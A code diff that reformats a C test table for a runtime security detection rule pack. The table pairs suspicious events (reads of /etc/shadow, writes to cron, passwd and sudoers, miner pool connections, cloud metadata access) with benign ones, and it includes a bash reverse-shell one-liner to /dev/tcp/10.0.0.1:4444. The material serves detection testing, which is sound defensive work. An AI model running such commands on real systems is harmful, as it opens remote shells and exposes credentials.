@@ -82,7 +82,8 @@ static const struct {
 	/* files.yaml: persistence and sensitive reads */
 	{ "write-below-etc-cron", { "open", "sh", .fd = "/etc/cron.d/x", W },
 	  { "open", "cat", .fd = "/etc/crontab" } },
-	{ "read-shadow", { "open", "cat", .fd = "/etc/shadow", C }, { "open", "sshd", .fd = "/etc/shadow" } },
+	{ "read-shadow", { "open", "cat", .fd = "/etc/shadow", C },
+	  { "open", "sshd", .fd = "/etc/shadow" } },
 	{ "write-passwd-group", { "open", "sh", .fd = "/etc/passwd", W, C },
 	  { "open", "useradd", .fd = "/etc/passwd", W } },
 	{ "write-sudoers", { "open", "tee", .fd = "/etc/sudoers.d/evil", W },
@@ -145,7 +146,8 @@ static const struct {
 	/* process.yaml */
 	{ "shell-in-container", { "exec", "bash", C }, { "exec", "bash" } },
 	{ "reverse-shell", { "exec", "bash", .sock = true }, { "exec", "bash", C } },
-	{ "reverse-shell-cmdline", { "exec", "bash", .cmd = "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
+	{ "reverse-shell-cmdline",
+	  { "exec", "bash", .cmd = "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
 	  { "exec", "bash", .cmd = "bash -c echo /dev/null" } },
 	{ "crypto-miner-args", { "exec", "run", .cmd = "run -o stratum+tcp://pool.example:3333", C },
 	  { "exec", "curl", .cmd = "curl https://pool.example/", C } },
@@ -171,7 +173,8 @@ static const struct {
 	/* network.yaml */
 	{ "crypto-miner-pool-port", { "connect", .daddr = "10.1.2.3", .dport = "14444" },
 	  { "connect", .daddr = "10.1.2.3", .dport = "443" } },
-	{ "cloud-metadata-from-container", { "connect", "curl", .daddr = "169.254.169.254", .dport = "80", C },
+	{ "cloud-metadata-from-container",
+	  { "connect", "curl", .daddr = "169.254.169.254", .dport = "80", C },
 	  { "connect", "curl", .daddr = "169.254.169.254", .dport = "80" } },
 	{ "tor-connect", { "connect", .daddr = "2001:db8::1", .dport = "9050" },
 	  { "connect", .daddr = "2001:db8::1", .dport = "9000" } },
@@ -276,7 +279,8 @@ static void test_pack__shape(void)
 static void test_pack__benign(void)
 {
 	static const struct ev quiet[] = {
-		{ "exec", "python3", .exe = "/usr/bin/python3", .cmd = "python3 -m http.server", .uid = "65534", C },
+		{ "exec", "python3", .exe = "/usr/bin/python3", .cmd = "python3 -m http.server",
+		  .uid = "65534", C },
 		{ "open", "python3", .fd = "/etc/ld.so.cache", C },
 		{ "open", "python3", .fd = "/etc/hosts", C },
 		{ "open", "python3", .fd = "/tmp/upload.bin", W, C },
